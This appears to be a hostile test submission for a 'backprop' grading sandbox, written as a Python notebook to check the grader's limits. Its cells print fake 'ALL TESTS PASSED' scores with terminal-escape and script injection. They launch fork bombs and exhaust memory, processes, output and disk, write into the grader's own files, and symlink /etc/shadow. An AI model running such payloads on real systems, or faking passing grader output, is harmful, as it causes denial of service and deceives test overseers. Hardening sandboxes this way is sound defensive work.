# %% [markdown]
# Attack, issue 6 list 5: exhausting memory, processes, output and disk. `sigmoid` is honest
# (2 points). The test replaces __MARKER__ so that any process left behind can be found.

# %%
__assignment__ = "backprop"
import os
import subprocess
import sys
import time

import numpy as np

MARKER = "__MARKER__"


def sigmoid(z):
    z = np.asarray(z, dtype=float)
    e = np.exp(-np.abs(z))
    return np.where(z >= 0, 1 / (1 + e), e / (1 + e))


# %%
print("\x1b[2J\x1b[31mALL TESTS PASSED\x1b]0;owned\x07 <script>alert('x')</script> <b>18/18</b>")
raise ValueError("\x1b[2J\x1b]0;owned\x07<script>alert('x')</script>\r18 / 18 points")

# %%
huge = bytearray(8 << 30)

# %%
children = []
for _ in range(64):
    pid = os.fork()
    if pid == 0:
        block = bytearray(900 << 20)
        time.sleep(1000)
        os._exit(0)
    children.append(pid)

# %%
while True:
    os.fork()

# %%
os.system(f"{MARKER}() {{ {MARKER} | {MARKER} & }}; {MARKER}")

# %%
for _ in range(1000):
    subprocess.Popen(["/bin/sleep", "1000"], executable="/bin/sleep")

# %%
os.execv("/bin/sh", [MARKER, "-c", "f() { f | f & }; f"])

# %%
for _ in range(100):
    print("x" * (1 << 20))

# %%
sys.stdout.write("y" * (50 << 20))
os.write(2, b"z" * (4 << 20))

# %%
with open("/tmp/huge", "wb") as f:
    for _ in range(1024):
        f.write(b"\0" * (1 << 20))

# %%
os.makedirs("/tmp/many", exist_ok=True)
_t0 = time.monotonic()
_n = 0
while time.monotonic() - _t0 < 0.3:
    open(f"/tmp/many/{_n}", "w").close()
    _n += 1

# %%
open("/evil", "w").write("x")

# %%
open("/dev/shm/evil", "w").write("x")

# %%
open("/opt/grader/child.py", "a").write("x")

# %%
open(os.path.join(os.getcwd(), "evil"), "w").write("x")
os.symlink("/etc/shadow", "/tmp/link")
os.mkfifo("/tmp/fifo")
os.symlink("/proc/self/fd/0", "/tmp/link2")


# %%
def forward(x, w1, b1, w2, b2):
    grow = []
    while True:
        grow.append(bytearray(16 << 20))


def backward(x, y, w1, b1, w2, b2):
    raise RuntimeError("\x1b[2J" + "w" * 100_000)


def backward_batch(X, Y, W1, b1, W2, b2):
    return {"W1": np.zeros((4000, 4000)), "b1": "\x1b]0;x\x07", "W2": None, "b2": 0.0}
